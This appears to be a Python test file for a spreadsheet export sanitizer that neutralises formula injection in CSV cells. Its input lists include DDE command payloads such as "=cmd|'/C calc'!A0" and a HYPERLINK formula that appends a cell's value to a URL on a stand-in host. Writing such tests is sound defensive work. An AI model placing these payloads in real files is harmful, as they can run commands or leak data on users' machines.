"""Cells that a spreadsheet would run."""

from __future__ import annotations

import time

import pytest

from core.export.cells import begins_formula, made_safe

RUN = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    "+1",
    "-3.5",
    "@SUM(A1)",
    "\t=1",
    "\tplain",
    "\r=1",
    " =1",
    "   \n =1",
    "\u00a0=1",
    "\ufeff=1",
    "\u200b=1",
    '"=1"',
    "'=1",
    ' " =1',
    "“=1”",
    "＝1",
    "＋1",
    "－1",
    "＠SUM",
    '=HYPERLINK("http://example.com?"&A1)',
    "- milk",
    "-83,29 €+cmd|' /C calc'!A0",
    "-5 €\n=1",
]
PLAIN = [
    "",
    "-83,29 €",
    "-$1,234.50",
    "-45 %",
    "plain",
    "a=b",
    "1+1",
    "3 - 2",
    "name@example.com",
    "a\tb",
    "a; b",
    "'quoted'",
    "5",
    "(=1)",
    "#REF!",
]
# Where a spreadsheet cuts the file with another delimiter than it was written with.
CUT = [
    ("a;=1+1", "a;'=1+1"),
    ("a; =1", "a; '=1"),
    ('a;"=1";b', 'a;"\'=1";b'),
    ("a\t=1", "a\t'=1"),
    ("one\n=1", "one\n'=1"),
    ("one\n-cmd|' /C calc'!A0", "one\n'-cmd|' /C calc'!A0"),
    ("one;+SUM(A1)", "one;'+SUM(A1)"),
    ("one\n@SUM(A1)\n=2", "one\n'@SUM(A1)\n'=2"),
    ("＝", "'＝"),
    ("=1;=2", "'=1;'=2"),
]
LISTS = ["buy:\n- milk\n- bread", "a; - b", "thanks\n@anna", "ratio 1:2; +3 more", "dash -- (like this)"]


@pytest.mark.parametrize("text", RUN)
def test_a_cell_that_begins_as_a_formula_gets_an_apostrophe(text: str) -> None:
    assert begins_formula(text)
    safe = made_safe(text)
    assert safe.startswith("'")
    assert safe.replace("'", "") == text.replace("'", "")  # nothing is lost


@pytest.mark.parametrize("text", PLAIN + LISTS)
def test_other_cells_stay(text: str) -> None:
    assert not begins_formula(text)
    assert made_safe(text) is text


@pytest.mark.parametrize(("text", "safe"), CUT)
def test_a_formula_after_a_delimiter_gets_one_too(text: str, safe: str) -> None:
    assert made_safe(text) == safe


@pytest.mark.parametrize("unit", [" ", "\n", "\n-", ";'", "\t ", '"', "\n \n", ";-("])
def test_time_grows_with_the_length_and_no_faster(unit: str) -> None:
    def seconds(n: int) -> float:
        text = unit * n
        started = time.process_time()
        made_safe(text)
        return time.process_time() - started

    short, long = (min(seconds(n) for _ in range(3)) for n in (5_000, 40_000))
    assert long < 24 * max(short, 0.001)
